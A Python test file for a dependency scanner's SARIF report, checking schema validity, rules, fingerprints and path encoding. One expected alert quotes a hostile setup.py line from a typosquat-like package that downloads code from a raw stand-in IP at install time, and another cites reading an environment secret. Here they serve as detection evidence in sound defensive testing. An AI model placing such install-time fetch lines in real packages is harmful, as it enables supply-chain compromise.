"""`--format sarif`: valid SARIF 2.1.0 (checked against the OASIS schema), one rule per
alert type, results on manifest lines with the package evidence in the message."""

from __future__ import annotations

import json
from dataclasses import replace
from functools import cache
from pathlib import Path

import jsonschema
from hypothesis import given, settings

from bot.model import Action, AlertType, Location, ScanResult
from bot.policy import DEFAULT_ACTIONS
from bot.report.catalogue import CATALOGUE
from bot.report.sarif import FINGERPRINT_KEY, render_sarif

from .samples import realistic_result, scan_results

SCHEMA = Path(__file__).resolve().parent.parent / "assets" / "sarif" / "sarif-schema-2.1.0.json"


@cache
def validator() -> jsonschema.Draft4Validator:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft4Validator.check_schema(schema)
    return jsonschema.Draft4Validator(schema)


def assert_valid(document: dict[str, object]) -> None:
    # Through JSON text, as a consumer reads it.
    errors = sorted(validator().iter_errors(json.loads(json.dumps(document))), key=str)
    assert errors == [], [f"{list(e.absolute_path)}: {e.message}" for e in errors]


def run_of(document: dict[str, object]) -> dict[str, object]:
    runs = document["runs"]
    assert isinstance(runs, list) and len(runs) == 1
    run = runs[0]
    assert isinstance(run, dict)
    return run


def test_realistic_scan_is_valid_sarif() -> None:
    assert_valid(render_sarif(realistic_result(), tool_version="0.1.0"))


def test_the_validator_rejects_what_the_schema_forbids() -> None:
    document = render_sarif(realistic_result(), tool_version="0.1.0")
    results = run_of(document)["results"]
    assert isinstance(results, list)
    results[0]["level"] = "fatal"
    assert list(validator().iter_errors(document))


@settings(max_examples=60, deadline=None)
@given(scan_results)
def test_any_scan_result_is_valid_sarif(result: ScanResult) -> None:
    assert_valid(render_sarif(result, tool_version="0.1.0"))


def test_every_alert_type_is_a_rule_with_its_default_level() -> None:
    run = run_of(render_sarif(realistic_result(), tool_version="0.1.0"))
    rules = run["tool"]["driver"]["rules"]  # type: ignore[index]
    levels = {"block": "error", "warn": "warning", "monitor": "note", "ignore": "none"}
    assert [rule["id"] for rule in rules] == [t.value for t in AlertType]
    for rule in rules:
        alert_type = AlertType(rule["id"])
        assert rule["fullDescription"]["text"] == CATALOGUE[alert_type].meaning
        assert rule["defaultConfiguration"]["level"] == levels[DEFAULT_ACTIONS[alert_type]]
        assert f"Default action: {DEFAULT_ACTIONS[alert_type].value}." in rule["help"]["text"]


def test_results_sit_on_manifest_lines_with_the_evidence_in_the_message() -> None:
    run = run_of(render_sarif(realistic_result(), tool_version="0.1.0"))
    results = run["results"]
    assert isinstance(results, list)
    by_rule = {r["ruleId"]: r for r in results}
    assert sorted(by_rule) == [
        "env-secrets", "fresh-release", "install-network", "network", "typosquat"
    ]
    install = by_rule["install-network"]
    assert install["level"] == "error"
    assert install["message"]["text"] == (
        "fastjsonx 1.0.2 (added): Installing this package downloads and runs code from a raw "
        "IP address. At setup.py:14 in fastjsonx-1.0.2.tar.gz: "
        "data = urllib.request.urlopen('http://203.0.113.7/i.py').read()"
    )
    assert install["locations"] == [
        {
            "physicalLocation": {
                "artifactLocation": {"uri": "requirements.txt", "uriBaseId": "%SRCROOT%"},
                "region": {"startLine": 7},
            },
            "logicalLocations": [
                {"name": "fastjsonx", "fullyQualifiedName": "fastjsonx==1.0.2", "kind": "package"}
            ],
        }
    ]
    rules = run["tool"]["driver"]["rules"]  # type: ignore[index]
    for result in results:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
    assert by_rule["network"]["message"]["text"].startswith(
        "httpcore 1.0.5 (added) (via httpx): Opens network connections."
    )
    assert by_rule["env-secrets"]["level"] == "warning"
    assert by_rule["fresh-release"]["level"] == "note"
    notes = run["invocations"][0]["toolExecutionNotifications"]  # type: ignore[index]
    assert [n["message"]["text"] for n in notes] == [
        "httpcore: the wheel is over the 50 MB download limit",
        "advisory database unreachable: timed out after 10 s",
    ]


def test_ignored_alerts_are_left_out() -> None:
    result = realistic_result()
    tqdm = result.packages[2]
    quiet = replace(tqdm, alerts=tuple(replace(a, action=Action.IGNORE) for a in tqdm.alerts))
    document = render_sarif(
        replace(result, packages=(*result.packages[:2], quiet, *result.packages[3:])),
        tool_version="0.1.0",
    )
    results = run_of(document)["results"]
    assert isinstance(results, list)
    assert {r["ruleId"] for r in results} == {"install-network", "typosquat", "network"}


def _fingerprints(result: ScanResult) -> list[str]:
    results = run_of(render_sarif(result, tool_version="0.1.0"))["results"]
    assert isinstance(results, list)
    return [r["partialFingerprints"][FINGERPRINT_KEY] for r in results]


def test_fingerprints_ignore_versions_and_manifest_lines_but_not_evidence() -> None:
    result = realistic_result()
    moved = replace(
        result,
        packages=tuple(
            replace(
                p,
                new_version="9.9",
                locations=(Location(path="requirements.txt", line=40),),
                alerts=tuple(replace(a, version="9.9") for a in p.alerts),
            )
            for p in result.packages
        ),
    )
    assert _fingerprints(moved) == _fingerprints(result)
    assert len(set(_fingerprints(result))) == len(_fingerprints(result))
    tqdm = result.packages[2]
    changed = replace(
        tqdm, alerts=(replace(tqdm.alerts[0], evidence='token = os.environ["OTHER"]'),)
    )
    other = replace(result, packages=(changed,))
    assert _fingerprints(other)[0] not in _fingerprints(result)


def test_without_a_manifest_results_point_into_the_package() -> None:
    package = replace(realistic_result().packages[2], locations=())
    document = render_sarif(
        replace(realistic_result(), packages=(package,), manifests=()), tool_version="0.1.0"
    )
    assert_valid(document)
    results = run_of(document)["results"]
    assert isinstance(results, list)
    env, fresh = results
    assert env["locations"][0]["physicalLocation"] == {
        "artifactLocation": {"uri": "tqdm/contrib/slack.py", "uriBaseId": "PACKAGE_ROOT"},
        "region": {"startLine": 41},
    }
    assert "physicalLocation" not in fresh["locations"][0]


def test_paths_become_relative_uri_references() -> None:
    package = replace(
        realistic_result().packages[2],
        locations=(Location(path="deps/my reqs%.txt", line=2),),
    )
    document = render_sarif(replace(realistic_result(), packages=(package,)), tool_version="0")
    results = run_of(document)["results"]
    assert isinstance(results, list)
    uri = results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "deps/my%20reqs%25.txt"
    inside = replace(package, locations=(), alerts=(replace(package.alerts[0], file="/a b/é.py"),))
    document = render_sarif(replace(realistic_result(), packages=(inside,)), tool_version="0")
    results = run_of(document)["results"]
    assert isinstance(results, list)
    uri = results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "a%20b/%C3%A9.py"
